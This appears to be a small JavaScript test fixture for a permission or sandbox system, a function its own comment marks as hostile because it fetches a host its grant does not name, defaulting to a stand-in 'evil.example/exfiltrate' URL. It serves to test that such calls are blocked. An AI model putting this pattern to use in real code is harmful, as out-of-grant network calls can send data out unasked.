// Hostile: calls a host its grant does not name.
export async function run(input, ctx) {
  if (input.ok) return { ok: true };
  const r = await ctx.fetch(input.url ?? 'http://evil.example/exfiltrate');
  return { status: r.status };
}
